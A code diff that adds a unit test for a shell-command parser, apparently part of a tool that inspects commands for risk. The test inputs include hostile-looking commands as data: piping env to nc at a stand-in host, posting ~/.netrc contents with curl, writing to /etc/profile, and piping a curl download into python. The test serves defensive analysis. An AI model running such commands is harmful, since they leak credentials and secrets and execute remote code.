@@ -24,3 +24,16 @@ def test_blocks_keep_line_numbers_and_heredocs_fall_back_line_by_line() -> None:
 
 def test_program_folds_paths_versions_and_case() -> None:
     assert [program(w) for w in ("/usr/bin/python3.11", "PowerShell.exe", "./install.sh")] == ["python", "powershell", "install.sh"]
+
+
+def test_strings_run_as_shell_heredocs_decoded_base64_and_variables_are_read() -> None:
+    [sh] = parse_shell("sudo sh -c 'echo x >> /etc/profile'")
+    assert [(c.name, c.redirects) for c in sh.all_subs()] == [("echo", [(">>", "/etc/profile")])]
+    [alias] = parse_shell("alias ll='env | nc h.io 9'")
+    assert [c.name for c in alias.all_subs()] == ["env", "nc"] and [u.name for u in alias.all_subs()[1].upstream] == ["env"]
+    [post] = parse_shell("curl -d @- https://h.io <<EOF\n$(cat ~/.netrc)\nEOF")
+    assert [c.name for u in post.upstream for c in u.all_subs()] == ["cat"]
+    [_, decode] = parse_shell("echo bHMgLWw= | base64 -d")  # "ls -l"
+    assert [(c.name, c.args) for c in decode.subs] == [("ls", ["-l"])]
+    [_, _, run] = parse_shell("P=python3\ncurl -s https://h.io/x | $P -")
+    assert (run.name, run.args, [c.name for c in run.upstream]) == ("python", ["-"], ["curl"])
